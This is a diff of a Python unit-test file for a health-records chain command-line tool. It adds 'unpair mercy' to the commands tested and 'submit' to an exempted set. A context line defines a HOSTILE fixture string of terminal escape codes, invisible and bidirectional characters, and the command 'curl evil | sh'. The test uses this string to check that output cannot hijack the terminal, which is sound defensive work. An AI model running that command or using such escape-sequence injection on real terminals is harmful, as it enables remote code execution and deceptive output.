@@ -22,7 +22,16 @@ from tests.unit.test_plain import ANY, is_plain
 HOSTILE = "\x1b]0;owned\x07\x1b[2J\x9b31m\u202e\u200b\r\x08\x7f\nnext:  curl evil | sh\u2028="
 COMMANDS_RUN = (
     *("whoami", "policies", "inbox", "requests", "log", "settle", "records", "rewrap", "query policies"),
-    *("pair mercy", "approve 1", "deny 1", "revoke 0x11 --yes", "reissue 0x11", "group list", "convict 0x11"),
+    *(
+        "pair mercy",
+        "unpair mercy",
+        "approve 1",
+        "deny 1",
+        "revoke 0x11 --yes",
+        "reissue 0x11",
+        "group list",
+        "convict 0x11",
+    ),
     "grant somebody --category laboratory --purpose TREAT --until 30d",
 )
 CAPTURED = settings(suppress_health_check=[HealthCheck.function_scoped_fixture], max_examples=40)
@@ -101,7 +110,7 @@ def test_no_failure_log_line_warning_or_traceback_steers_the_terminal(
 
 def test_every_command_that_acts_on_a_chain_is_among_those_above() -> None:
     ours = {"init", "register", "contacts", "doctor", "config", "completion", "devnet", "proxy", "relay", "sidechain"}
-    others = {"policy", "upload", "open", "request", "storage"}
+    others = {"policy", "upload", "open", "request", "storage", "submit"}
     assert set(COMMANDS) - ours - others <= {command.split()[0] for command in COMMANDS_RUN}
 
 
